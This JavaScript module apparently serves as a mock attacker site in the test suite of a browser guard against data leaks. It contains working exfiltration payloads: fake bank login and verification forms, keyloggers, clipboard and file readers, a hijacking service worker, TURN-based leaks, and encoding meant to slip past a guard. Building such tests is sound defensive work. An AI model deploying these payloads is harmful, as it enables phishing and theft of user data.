// The attacker's site. Whatever reaches it, by whatever road, is written down here: tests judge by these records alone.
import { createHash } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { RELAY } from './bank.mjs';
import { file, html, page, raw } from './html.mjs';
import { PARTS } from './parts.mjs';

export function createCollector() {
  return { records: [], turnPort: 0 };
}

export function record(collector, kind, request, body = '') {
  const { method = '', url = '', headers = {} } = request;
  collector.records.push({ t: Date.now(), kind, method, url: String(url), headers, body });
}

const OPEN = {
  'access-control-allow-origin': '*',
  'access-control-allow-headers': '*',
  'access-control-allow-methods': '*',
  'access-control-allow-private-network': 'true',
  'cache-control': 'no-store',
};
const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

const form = html`<h1>Account verification</h1><form class="card" method="post" action="/collect">
  <label>Account number <input name="account"></label><label>Balance <input name="balance"></label>
  <label>Notes <textarea name="notes" rows="4"></textarea></label><button>Submit</button></form>`;

export function attacker(request, collector) {
  record(collector, 'http', { method: request.method, url: request.url, headers: request.headers }, request.body);
  const { path } = request;
  if (path === '/verify')
    return page({ title: 'Account verification', brand: '#7f1d1d', name: 'Secure Verify', body: form });
  if (path === '/frame') return page({ title: 'Frame', name: 'Frame', body: html`<script>${raw(LISTENER)}</script>` });
  if (path === '/policed') return page({ title: 'Notes', name: 'Notes', body: html``, headers: POLICED });
  const special = PAGES[path];
  if (special) return page({ title: 'Notes', brand: '#7f1d1d', name: 'Notes', body: html`${raw(special)}` });
  if (path === '/in' && !request.headers.authorization)
    return { status: 401, headers: { 'www-authenticate': 'Basic realm="in"' }, body: '' };
  if (path === '/sw.js') return file('text/javascript', RELAY, OPEN);
  if (path === '/answering.js') return file('text/javascript', ANSWERING, OPEN);
  if (path.endsWith('.gif')) return file('image/gif', PIXEL, OPEN);
  if (path.endsWith('.css')) return file('text/css', 'body{}', OPEN);
  if (path.endsWith('.js')) return file('text/javascript', '', OPEN);
  if (path.endsWith('/ticks')) return file('text/event-stream', 'event: tick\ndata: 7\n\n', OPEN);
  if (path.endsWith('/events')) return file('text/event-stream', 'data: ok\n\n', OPEN);
  return file('text/html', '<!doctype html><title>Thanks</title><p role="status">Thank you.</p>', OPEN);
}

const POLICED = { 'content-security-policy': "script-src 'self' 'report-sample'; report-uri /reported" };

/** A service worker that answers each document itself, tells where it was asked for, and has its page tell as well. */
const ANSWERING = `addEventListener('install', () => skipWaiting()); addEventListener('activate', (e) => e.waitUntil(clients.claim()));
  addEventListener('fetch', (e) => { if (e.request.mode !== 'navigate') return;
    fetch('/told', { method: 'POST', body: e.request.url }).catch(() => 0);
    e.respondWith(new Response('<p role="status">Thank you.</p><img src="/t.gif?' + encodeURIComponent(e.request.url) + '"><script>fetch("/told" + location.search)</scr' + 'ipt>', { headers: { 'content-type': 'text/html', link: '</t.css?' + encodeURIComponent(e.request.url) + '>; rel=preload; as=style' } })); });`;

/** The attacker's frame sends on whatever it is told. */
const LISTENER = "addEventListener('message', (e) => fetch('/told?d=' + encodeURIComponent(JSON.stringify(e.data))))";

/** Accepts a WebSocket by hand (RFC 6455): the upgrade's URL and every text frame are recorded. */
export function acceptSocket(request, socket, collector) {
  record(collector, 'websocket', {
    method: 'GET',
    url: `ws://${request.headers.host}${request.url}`,
    headers: request.headers,
  });
  const key = createHash('sha1')
    .update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
    .digest('base64');
  socket.write(
    `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${key}\r\n\r\n`,
  );
  socket.on('data', (bytes) => {
    const text = unmasked(bytes);
    record(collector, 'websocket', { url: request.url }, text);
    // Says all of it again, and lets itself be closed.
    if (!request.url.endsWith('/echo')) return;
    socket.write(Buffer.concat([Buffer.from([bytes[0], text.length]), Buffer.from(text, 'latin1')]));
  });
  socket.on('error', () => socket.destroy());
}

/** The payload of one short client frame. */
function unmasked(bytes) {
  const length = bytes[1] & 0x7f;
  const at = length === 126 ? 4 : 2;
  const size = length === 126 ? bytes.readUInt16BE(2) : length;
  const mask = bytes.subarray(at, at + 4);
  return Buffer.from(bytes.subarray(at + 4, at + 4 + size).map((byte, i) => byte ^ mask[i % 4])).toString('latin1');
}

/** A TURN server that only asks for a name: WebRTC then sends one, and with it whatever the page put there. */
export async function listenForTurn(collector) {
  const socket = createSocket('udp4');
  socket.on('message', (packet, from) => {
    if (packet.length < 20 || packet.readUInt32BE(4) !== 0x2112a442) return;
    const name = attribute(packet, 0x0006);
    record(collector, 'webrtc', { method: packet.readUInt16BE(0).toString(16), url: 'turn:' }, name ?? '');
    if (packet.readUInt16BE(0) === 0x0003 && !name) socket.send(unauthorised(packet), from.port, from.address);
  });
  await new Promise((done) => socket.bind(0, '127.0.0.1', done));
  collector.turnPort = socket.address().port;
  return () => socket.close();
}

function attribute(packet, wanted) {
  for (let at = 20; at + 4 <= packet.length; ) {
    const size = packet.readUInt16BE(at + 2);
    if (packet.readUInt16BE(at) === wanted) return packet.subarray(at + 4, at + 4 + size).toString();
    at += 4 + Math.ceil(size / 4) * 4;
  }
  return undefined;
}

function unauthorised(packet) {
  const field = (type, value) => {
    const bytes = Buffer.alloc(4 + Math.ceil(value.length / 4) * 4);
    bytes.writeUInt16BE(type, 0);
    bytes.writeUInt16BE(value.length, 2);
    value.copy(bytes, 4);
    return bytes;
  };
  const fields = Buffer.concat([
    field(0x0009, Buffer.from([0, 0, 4, 1])),
    field(0x0014, Buffer.from('collector')),
    field(0x0015, Buffer.from('nonce')),
  ]);
  const head = Buffer.from(packet.subarray(0, 20));
  head.writeUInt16BE(0x0113, 0);
  head.writeUInt16BE(fields.length, 2);
  return Buffer.concat([head, fields]);
}

const TOLD = (value) => `fetch('/told?d=' + encodeURIComponent(${value}))`;
/** So that no guard of what scripts send sees it: what counts is that the page was told at all. `leaks.mjs` undoes it. */
const HIDDEN = (value) =>
  `fetch('/told?d=' + [...String(${value})].map((c) => (c.charCodeAt(0) + 77).toString(36)).join('.'))`;
const SEND = "fetch('/told?d=' + encodeURIComponent(event.target.value))";
const FIELD = '<form action="/c"><input name="d" aria-label="Notes" autofocus></form>';

const REWRITTEN = JSON.stringify(
  `<label>Notes <input></label><script>addEventListener('beforeinput', (e) => ${TOLD('e.data')}, true)</script>`,
).replaceAll('<', '\\u003c');

/** An editor of the page's own making: it draws its text itself, and hears of it from the browser's EditContext. */
const EDITOR = `<div id="editor" tabindex="0" role="textbox" aria-label="Notes" style="height:60px"></div><script>
  const context = new EditContext();
  for (const name of ['textupdate', 'compositionstart', 'compositionend'])
    context.addEventListener(name, (e) => { ${TOLD("context.text + (e.text ?? '') + (e.data ?? '')")}; editor.textContent = context.text; });
  editor.editContext = context;
</script>`;

/** Whatever an insertion meets on its way tells. */
const TAMPERED = `<script>
  const send = (value) => { if (String(value).includes('0')) ${TOLD('String(value)')}; };
  const { get: text } = Object.getOwnPropertyDescriptor(TextUpdateEvent.prototype, 'text');
  Object.defineProperty(TextUpdateEvent.prototype, 'text', { get() { const value = text.call(this); send(value); return value; } });
  for (const name of ['text', 'data', 'view', 'detail', 'targetRanges'])
    Object.defineProperty(Object.prototype, name, { configurable: true, get() { send(JSON.stringify(this)); }, set(value) { send(value); Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true }); } });
  const { call, apply } = Function.prototype;
  const told = (native) => function (...args) { for (const one of args) send(one?.data ?? one?.detail ?? one); return Reflect.apply(native, this, args); };
  Function.prototype.call = told(call); Function.prototype.apply = told(apply);
  EventTarget.prototype.dispatchEvent = told(EventTarget.prototype.dispatchEvent);
  for (const name of ['InputEvent', 'CustomEvent', 'CompositionEvent']) { const Native = window[name]; window[name] = function (type, init) { send(JSON.stringify(init)); return new Native(type, init); }; }
  for (const name of ['interlock:text', 'beforeinput', 'input']) addEventListener(name, (e) => send(e.data), true);
</script>`;

const rewriting = (afterMs) =>
  `setTimeout(() => { document.open(); document.write(${REWRITTEN}); document.close(); }, ${afterMs})`;

/** A page that pretends to be signed in and shows so much of "its own" that a guard with little memory forgets the rest. */
const MANY = `<a href="/logout">Sign out</a><pre>${Array.from({ length: 6_000 }, (_, i) => `Account ${(7_000_000_019 + i * 104_729_377).toString()}`).join('\n')}</pre>`;

/** Pages that look harmless, and surfaces that a guard may overlook. */
const PAGES = {
  ...PARTS,
  '/many': MANY,
  // It shows a number of its own, to be sent along with what is another site's.
  '/case':
    '<a href="/logout">Sign out</a><p>Your case: RX-5530-9217</p><form action="/c"><label>Your case, and your account number <input name="d"></label><button>Go on</button></form>',
  '/harbour-bank':
    '<h1>Harbour Bank</h1><form method="post" action="/c"><label>User name <input name="u"></label><label>Password <input name="d" type="password"></label><button>Sign in</button></form>',
  '/installing': `<p id="s">Loading</p><script>navigator.serviceWorker.register('/answering.js').then(() => navigator.serviceWorker.ready).then(() => { s.textContent = 'Ready'; })</script>`,
  '/listening': `<label>Notes <input oninput="${SEND}"></label>`,
  '/edited': `<label>Notes <input oninput="${HIDDEN('this.value')}"></label>`,
  '/keys': `<label>Notes <input></label><script>let seen = ''; addEventListener('keydown', (e) => { seen += e.key; ${TOLD('seen')}; })</script>`,
  '/composed': `<label>Notes <input oninput="${SEND}"></label><script>addEventListener('compositionupdate', (e) => ${TOLD('e.data')}, true)</script>`,
  '/context': EDITOR,
  '/context-tampered': `${TAMPERED}${EDITOR}`,
  // A document that is opened anew loses every listener it had. Who hears first hears all.
  '/rewritten': `<script>${rewriting(1_000)}</script>`,
  '/rewritten-at-once': `<script>${rewriting(0)}</script>`,
  '/fragment': "<script>fetch('/told?d=' + encodeURIComponent(decodeURIComponent(location.hash)))</script>",
  '/name': "<script>fetch('/told?d=' + encodeURIComponent(window.name))</script>",
  '/named': `<script>${HIDDEN('window.name')}</script>`,
  '/pasting': `<label>Notes <textarea></textarea></label><script>addEventListener('paste', (e) => ${TOLD("e.clipboardData.getData('text')")})</script>`,
  '/reading': `<button onclick="navigator.clipboard.readText().then((t) => ${TOLD('t')})">Go on</button>`,
  '/upload': `<label>Statement <input type="file" onchange="this.files[0].text().then((t) => ${TOLD('btoa(unescape(encodeURIComponent(t)))')})"></label>`,
  '/choosing': `<button onclick="const i = Object.assign(document.createElement('input'), { type: 'file' }); i.onchange = () => i.files[0].text().then((t) => ${HIDDEN('t')}); i.click()">Choose a file</button>`,
  '/file-names': `<label>Statement <input type="file" oninput="${HIDDEN('this.files[0]?.name')}" onchange="${HIDDEN('this.files[0]?.name')}"></label>`,
  '/dropping': `<div id="z" style="width:400px;height:300px">Drop here</div><script>
    z.ondragover = z.ondragenter = (e) => { e.preventDefault(); ${HIDDEN('e.dataTransfer.types')}; };
    z.ondrop = (e) => { e.preventDefault(); ${HIDDEN("[e.dataTransfer.getData('text'), e.dataTransfer.getData('text/x-note')]")}; };</script>`,
  '/pasting-any': `<label>Notes <textarea></textarea></label><script>addEventListener('paste', (e) => ${HIDDEN('e.clipboardData.types.map((t) => e.clipboardData.getData(t))')})</script>`,
  '/reading-any': `<button onclick="navigator.clipboard.read().then(async ([one]) => { for (const type of one.types) { const t = await (await one.getType(type)).text(); ${HIDDEN('t')}; } })">Go on</button>`,
  '/hearing-any': `<button onclick="window.open('http://harbourbank.example/account')">Open your bank</button><script>addEventListener('message', async ({ data }) => {
    const told = data instanceof Blob ? await data.text() : data instanceof Error ? data.message : JSON.stringify([data.d]); ${HIDDEN('told')}; })</script>`,
  '/hearing-pieces': `<button onclick="window.open('http://harbourbank.example/account')">Open your bank</button><script>let seen = ''; addEventListener('message', ({ data }) => {
    seen += Number(data.d); ${HIDDEN('seen')}; })</script>`,
  '/keys-any': `<script>let seen = ''; const hear = (said) => { seen += said; ${HIDDEN('seen')}; };
    onkeydown = (e) => hear(e.key.length === 1 ? e.key : String.fromCharCode(e.keyCode)); addEventListener('keyup', (e) => hear(e.key));</script>`,
  '/keypad': `<p>Account number</p>${[...'0123456789'].map((digit) => `<button class="d">${digit}</button>`).join('')}<button>Done</button>
    <script>let seen = ''; for (const b of document.querySelectorAll('.d')) b.onclick = () => { seen += b.textContent; ${HIDDEN('seen')}; };</script>`,
  '/question': `<button onclick="${HIDDEN("prompt('Your account number?')")}">Go on</button>`,
  '/window': `<script>${HIDDEN('window.name')}</script>`,
  '/fragments': `<script>for (const on of ['hashchange', 'popstate']) addEventListener(on, () => ${HIDDEN('decodeURIComponent(location.hash)')});
    navigation.addEventListener('navigate', (e) => ${HIDDEN('decodeURIComponent(e.destination.url)')});</script>`,
  '/hearing': `<button onclick="window.open('http://harbourbank.example/account')">Open your bank</button><script>addEventListener('message', (e) => ${TOLD('JSON.stringify(e.data)')})</script>`,
  '/surface/closed-root': `<div id="host"></div><script>
    const root = document.getElementById('host').attachShadow({ mode: 'closed' });
    root.innerHTML = '${FIELD}'; root.querySelector('input').focus();</script>`,
  '/surface/cross-frame': '<iframe src="http://inner.collector-attacker.example/surface/field"></iframe>',
  '/surface/field': `${FIELD}<script>document.querySelector('input').focus()</script>`,
  '/surface/srcdoc-frame': `<iframe id="f" srcdoc='${FIELD}'></iframe><script>f.onload = () => f.contentDocument.querySelector('input').focus();</script>`,
  '/surface/blank-frame': `<iframe id="f"></iframe><script>f.contentDocument.body.innerHTML = '${FIELD}'; f.contentDocument.forms[0].action = location.origin + '/c'; f.contentDocument.querySelector('input').focus();</script>`,
};
